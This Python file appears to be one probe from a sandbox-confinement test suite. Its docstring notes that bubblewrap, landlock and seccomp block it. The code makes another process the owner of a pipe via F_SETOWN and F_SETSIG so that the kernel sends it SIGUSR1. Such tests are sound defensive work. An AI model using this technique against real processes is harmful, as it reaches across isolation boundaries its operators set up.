"""Makes another process the owner of a pipe, so that the kernel signals it.

kind: signals and other processes
stopped by: bubblewrap landlock(6) seccomp
changes: victim
seen: outside
"""

import fcntl
import os
import signal

from prelude import any_of


def attack() -> bool:
    def own(pid: int, *_: int) -> bool:
        read, write = os.pipe()
        fcntl.fcntl(read, fcntl.F_SETOWN, pid)
        fcntl.fcntl(read, 10, signal.SIGUSR1)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(write, b"x")
        return True

    return any_of(own, "@VICTIMS@")
